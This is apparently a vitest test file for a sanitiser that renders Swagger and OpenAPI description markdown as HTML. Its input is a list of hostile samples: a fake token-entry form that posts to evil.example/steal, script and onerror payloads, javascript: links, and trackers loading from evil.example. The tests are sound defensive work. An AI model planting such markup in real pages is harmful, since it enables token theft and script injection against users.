import { describe, expect, it } from 'vitest'
import { renderDescription } from './description-markup'

function rendered(source: string, flavor: 'swagger2' | 'openapi3') {
  const host = document.createElement('div')
  host.innerHTML = renderDescription(source, flavor)
  return host
}

const hostile = [
  'Please <input placeholder="re-enter your API token"> here.',
  '<form action="https://evil.example/steal"><button>Send it</button></form>',
  '<textarea name="token">kept words</textarea>',
  '<select><option>first choice</option></select>',
  '<a id="authStore" name="location" href="https://example.com/doc">docs</a>',
  '<img id="x" src="https://evil.example/t.png" srcset="https://evil.example/t2.png 2x" alt="a tracker">',
  '<p style="background:url(https://evil.example/c.png)" class="opblock">styled</p>',
  '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
  '<iframe src="https://evil.example"></iframe><object data="https://evil.example/o"></object>',
  '<svg><image href="https://evil.example/s.png"/></svg>',
  '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0">',
  '[js](javascript:alert(1)) and <a href="javascript:alert(2)">html js</a>',
  '![markdown image](https://evil.example/m.png)',
].join('\n\n')

describe.each(['swagger2', 'openapi3'] as const)(
  'renderDescription (%s)',
  (flavor) => {
    const host = rendered(hostile, flavor)

    it('renders no form controls, yet keeps the words inside them', () => {
      expect(
        host.querySelectorAll(
          'form, input, button, textarea, select, option, label, fieldset',
        ),
      ).toHaveLength(0)
      for (const words of [
        'Please',
        'here.',
        'Send it',
        'kept words',
        'first choice',
      ])
        expect(host.textContent).toContain(words)
    })

    it('leaves no id, name, style, class or event handler on anything', () => {
      for (const element of host.querySelectorAll('*'))
        for (const attribute of element.getAttributeNames())
          expect(attribute, element.outerHTML).toMatch(
            /^(href|target|rel|alt|title)$/,
          )
    })

    it('loads nothing: no sources, frames, media, styles or scripts', () => {
      expect(
        host.querySelectorAll(
          '[src], [srcset], [poster], script, style, link, meta, iframe, object, embed, video, audio, svg',
        ),
      ).toHaveLength(0)
      // An image keeps its alt text to read.
      expect(host.querySelector('img[alt="a tracker"]')).not.toBeNull()
    })

    it('keeps ordinary links, opening in a new tab without a handle back on the page', () => {
      const link = [...host.querySelectorAll('a')].find(
        (anchor) => anchor.textContent === 'docs',
      )!
      expect(link.getAttribute('href')).toBe('https://example.com/doc')
      expect(link.getAttribute('target')).toBe('_blank')
      expect(link.getAttribute('rel')).toBe('noopener noreferrer')
      for (const anchor of host.querySelectorAll('a[href]'))
        expect(anchor.getAttribute('href')).not.toMatch(/^javascript:/i)
    })
  },
)

describe('renderDescription', () => {
  it('renders markdown as Swagger UI does for each version', () => {
    expect(renderDescription('**bold** and `code`', 'swagger2')).toBe(
      '<p><strong>bold</strong> and <code>code</code></p>',
    )
    // The OpenAPI 3 renderer reads tables; Swagger 2's breaks lines.
    expect(renderDescription('| a |\n| - |\n| b |', 'openapi3')).toContain(
      '<table>',
    )
    expect(renderDescription('one\ntwo', 'swagger2')).toContain('<br>')
  })

  it('gives nothing for markup that was nothing but a threat', () => {
    expect(renderDescription('<script>alert(1)</script>', 'swagger2')).toBe('')
  })
})
